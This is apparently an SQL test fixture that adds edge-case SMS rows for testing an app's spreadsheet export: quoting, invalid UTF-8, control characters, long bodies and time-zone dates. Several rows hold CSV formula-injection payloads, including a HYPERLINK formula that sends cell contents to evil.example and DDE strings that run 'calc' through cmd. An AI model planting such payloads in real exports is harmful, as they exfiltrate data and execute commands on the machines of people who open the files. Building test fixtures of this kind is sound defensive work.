-- Rows appended to the sms-android fixture (fixtures/apps/sms-android/mmssms.sql) by
-- tests/e2e/export_inject.sh: bodies and addresses a spreadsheet would read as a
-- formula (=, +, -, @, tab, carriage return first), a quote and a line break for
-- RFC 4180 quoting, invalid UTF-8, control characters, a body longer than an Excel
-- cell holds (40004 characters), and two dates either side of the European summer
-- time change (2024-07-01 12:00 UTC and 2024-01-15 12:00 UTC). Applied with sqlite3.
INSERT INTO sms (_id, thread_id, address, date, type, read, body) VALUES
 (201, 9, '+8613000000009', 1719835200000, 1, 1, '=HYPERLINK("http://evil.example/?"&A1,"click me")'),
 (202, 9, '+8613000000009', 1705320000000, 2, 1, '+cmd|'' /C calc''!A0'),
 (203, 9, '+8613000000009', 1719835201000, 1, 1, '-2+3+cmd|'' /C calc''!A0'),
 (204, 9, '+8613000000009', 1719835202000, 1, 1, '@SUM(1+1)*cmd|'' /C calc''!A0'),
 (205, 9, '+8613000000009', 1719835203000, 1, 1, char(9) || '=1+1 after a tab'),
 (206, 9, '+8613000000009', 1719835204000, 1, 1, char(13) || '=1+1 after a CR'),
 (207, 9, '=1+2', 1719835205000, 1, 1, 'a "quoted", comma' || char(10) || 'second line'),
 (208, 9, '+8613000000009', 1719835206000, 1, 1, CAST(X'4D616C666F726D6564FF20C0AF204F4B' AS TEXT)),
 (209, 9, '+8613000000009', 1719835207000, 1, 1, 'ctl' || char(1) || char(27) || '[31mred' || char(65535) || 'end'),
 (210, 9, '+8613000000009', 1719835208000, 1, 1, 'LONG' || replace(hex(zeroblob(20000)), '00', '长句'));
